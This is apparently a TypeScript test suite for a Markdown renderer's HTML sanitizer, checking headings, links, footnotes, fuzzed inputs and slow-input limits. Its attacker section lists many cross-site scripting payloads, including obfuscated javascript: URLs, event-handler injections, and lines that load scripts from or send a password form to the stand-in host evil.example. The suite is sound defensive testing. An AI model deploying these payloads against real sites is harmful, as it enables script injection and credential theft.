import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { MAX_MARKDOWN_LENGTH, renderMarkdown } from "#server/service/markdown"

const OUTWARD = 'target="_blank" rel="nofollow noopener noreferrer"'

/** Everything that may stand between `<` and `>` in a result. */
const HARMLESS = [
  /^<\/?(blockquote|del|em|li|ol|p|pre|code|section|strong|sup|table|tbody|td|th|thead|tr|ul|a|h[3-6])>$/,
  /^<(br|hr)>$/,
  /^<h[3-6] id="text-[^"<>]*">$/,
  /^<li id="text-fn-[^"<>]*">$/,
  /^<ol start="\d+">$/,
  /^<t[dh] align="(left|right|center)">$/,
  /^<code class="language-[\w+#.-]+">$/,
  /^<section class="footnotes">$/,
  /^<a href="https?:\/\/[^"<>]+"( title="[^"<>]*")? target="_blank" rel="nofollow noopener noreferrer">$/i,
  /^<a href="mailto:[^"<>]*"( title="[^"<>]*")?>$/i,
  /^<a href="#text-[^"<>]*"( title="[^"<>]*")?( id="text-fnref-[^"<>]*")?>$/,
]

/** Tags in `html` that aren't on the list; a lone angle bracket counts as one. */
const dangers = (html: string): string[] =>
  (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !HARMLESS.some((harmless) => harmless.test(tag)))

describe("what people write", () => {
  test("headings begin below those of the page, and can be linked to", () => {
    expect(renderMarkdown("# One\n\n###### Six\n\n[to one](#one)", "cyd")).toBe(
      '<h3 id="cyd-one">One</h3>\n<h6 id="cyd-six">Six</h6>\n<p><a href="#cyd-one">to one</a></p>',
    )
  })

  test("headings that read the same have ids of their own", () => {
    const html = renderMarkdown("# Why *me*?\n\n# Why me!\n\n# Übung & mehr")
    expect(html.match(/id="[^"]*"/g)).toEqual([
      'id="text-why-me"',
      'id="text-why-me-1"',
      'id="text-übung--mehr"',
    ])
  })

  test("links to other sites open outside and tell nobody where from", () => {
    expect(renderMarkdown('[site](https://example.org/a?b=1&c "A \\"title\\"")')).toBe(
      `<p><a href="https://example.org/a?b=1&amp;c" title="A &quot;title&quot;" ${OUTWARD}>site</a></p>`,
    )
    expect(renderMarkdown("see www.example.org or <https://example.org>")).toContain(
      `<a href="http://www.example.org" ${OUTWARD}>www.example.org</a>`,
    )
    expect(renderMarkdown("ada@example.org")).toBe(
      '<p><a href="mailto:ada@example.org">ada@example.org</a></p>',
    )
  })

  test("an image is a link to it, named by its alternative text", () => {
    expect(renderMarkdown("![a *cat*](https://example.org/cat.png)")).toBe(
      `<p><a href="https://example.org/cat.png" ${OUTWARD}>a cat</a></p>`,
    )
    expect(renderMarkdown("![](https://example.org/cat.png)")).toContain(">image</a>")
    expect(renderMarkdown("![cat](cat.png)")).toBe("<p>cat</p>")
    expect(renderMarkdown("[![cat](https://example.org/cat.png)](https://example.org)")).toBe(
      `<p><a href="https://example.org" ${OUTWARD}>cat</a></p>`,
    )
    expect(renderMarkdown("[![cat](https://example.org/cat.png)](../gallery)")).toBe(
      `<p><a href="https://example.org/cat.png" ${OUTWARD}>cat</a></p>`,
    )
  })

  test("links within the repository, which lead nowhere here, stay as text", () => {
    expect(renderMarkdown("[a](../README.md) [b](/x) [c](//example.org) [d]()")).toBe("<p>a b c d</p>")
  })

  test("tables, task lists, strikethrough and footnotes are GitHub's", () => {
    expect(renderMarkdown("| a | b |\n|:-|-:|\n| 1 | 2 |")).toContain('<td align="right">2</td>')
    expect(renderMarkdown("- [x] done")).toContain("☑ done")
    expect(renderMarkdown("~~no~~")).toBe("<p><del>no</del></p>")
    const notes = renderMarkdown("Yes[^1].\n\n[^1]: Really.", "ada")
    expect(notes).toContain('<a href="#ada-fn-1" id="ada-fnref-1">1</a>')
    expect(notes).toContain('<li id="ada-fn-1">')
    expect(notes).toContain('<a href="#ada-fnref-1">')
  })

  test("HTML comments, as templates have them, are not shown", () => {
    expect(renderMarkdown("<!-- Write here. -->\n\nHello<!-- you -->.")).toMatch(/^\s*<p>Hello\.<\/p>$/)
    expect(renderMarkdown("<!-- never\n\nclosed")).not.toContain("closed")
  })

  test("the text of raw HTML is kept, its markup dropped", () => {
    expect(renderMarkdown('<p align="center">\nVote <b>Ada</b> & 1 < 2!\n</p>')).toBe(
      "<p>Vote Ada &amp; 1 &lt; 2!</p>",
    )
    expect(renderMarkdown("one<br>two <sub>three</sub>")).toBe("<p>one<br>two three</p>")
    expect(renderMarkdown("> <details>\n> inside\n> </details>")).toContain("<p>inside</p>")
  })

  test("code is shown as it stands", () => {
    expect(renderMarkdown("```html\n<script>&amp;\n```")).toBe(
      '<pre><code class="language-html">&lt;script&gt;&amp;amp;\n</code></pre>',
    )
    expect(renderMarkdown('```x"onload=\n1\n```')).toBe("<pre><code>1\n</code></pre>")
  })

  test("no text is no HTML", () => {
    expect(renderMarkdown("")).toBe("")
  })
})

describe("what attackers write", () => {
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"\nonerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password></form>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?php echo '<script>' ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](\u0000javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/x)",
    "[x](view-source:https://example.org)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "xmpp:evil@example.org",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](https://a/b" onerror="alert(1))',
    '![" onerror="alert(1)](https://a/b)',
    '[x](https://a "\\" onclick=\\"alert(1)")',
    '[x](https://a/"onclick="alert(1))',
    "[x](https://a/'onclick='alert(1)><script>)",
    '[x](#" onclick="alert(1))',
    '[^"onclick="x]: y\n\n[^"onclick="x]',
    '# a" onclick="alert(1)',
    "# <script>alert(1)</script>",
    '```"><script>alert(1)</script>\n```',
    "| <script>alert(1)</script> |\n|-|",
    "- [x] <img src=x onerror=alert(1)>",
    "~~<script>~~alert(1)",
    "[<img src=x onerror=alert(1)>](https://a)",
    "[[x](javascript:1)](https://a)",
    "[a](https://a)[b](javascript:1)</a><a href=javascript:1>",
  ])("%j comes out harmless", (markdown) => {
    expect(dangers(renderMarkdown(markdown))).toEqual([])
  })

  test("nothing is ever loaded: no element that fetches comes out", () => {
    const html = renderMarkdown(
      '![a](https://a/x.png) <img src="https://a/y.png"> <link rel="stylesheet" href="https://a">',
    )
    expect(html.match(/<\w+/g)).toEqual(["<p", "<a"])
  })

  test("whatever is put together from pieces of markup comes out harmless", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ..."<>\"'`&;:/\\[]()!#*_~|-^= \n\t\u0000".split(""),
        ..."<script> </script> <a href= <img src= onerror= javascript: data: https:// mailto: <!-- --> ]( ![ [^1] [^1]:".split(
          " ",
        ),
        ..."&lt; &#60; &quot; &#106; \n\n \n> \n- ``` <b </a> <p> <br> |- [x] www.a.b a@b.c text-fn-".split(
          " ",
        ),
      ),
      fc.string({ maxLength: 4 }),
      fc.string({ unit: "binary", maxLength: 3 }),
    )
    const markdown = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(""))
    fc.assert(
      fc.property(markdown, (text) => {
        expect(dangers(renderMarkdown(text))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })
})

describe("what takes long", () => {
  const fill = (piece: string) => piece.repeat(MAX_MARKDOWN_LENGTH / piece.length)
  const deep = Array.from({ length: 250 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n")
  const notes = Array.from({ length: 2000 }, (_, i) => `[^${i}]: y [^${i}]`).join("\n")

  test.each([
    ["quotes", fill(">")],
    ["lists on a line", fill("- ")],
    ["lists below each other", deep],
    ["lists in quotes", fill("> - ")],
    ["alternating emphasis", fill("_*")],
    ["strong emphasis", fill("***a")],
    ["strikethrough", fill("~a")],
    ["brackets", fill("[")],
    ["links", fill("[a](")],
    ["images", fill("![a](b)")],
    ["footnotes", notes],
    ["code spans", Array.from({ length: 350 }, (_, i) => "`".repeat(i)).join(" ")],
    ["tags", fill("<a>")],
    ["half tags", fill("<a ")],
    ["comments", fill("<!--")],
    ["entities", fill("&a;")],
    ["tables", fill("a|b\n-|-\n")],
    ["blank lines", fill("\n \t")],
    ["definitions", fill("[a]: x\n")],
  ])("a text full of %s is done in a moment", (_, markdown) => {
    const start = performance.now()
    expect(dangers(renderMarkdown(markdown))).toEqual([])
    expect(performance.now() - start).toBeLessThan(5000)
  })

  test("a text that would take too long is shown as it was written", () => {
    expect(renderMarkdown(`${"> ".repeat(50)}<b>`)).toBe(`<pre>${"&gt; ".repeat(50)}&lt;b&gt;</pre>`)
    expect(renderMarkdown("<".repeat(MAX_MARKDOWN_LENGTH + 1))).toMatch(/^<pre>(&lt;)+<\/pre>$/)
    expect(renderMarkdown("*_".repeat(600))).toMatch(/^<pre>/)
  })

  test("a long list and a long text of ordinary paragraphs are not taken for attacks", () => {
    expect(renderMarkdown("* item\n".repeat(900))).toMatch(/^<ul>/)
    expect(renderMarkdown("Some **words** and _more_ of them.\n\n".repeat(1500))).toMatch(/^<p>Some <strong>/)
  })
})
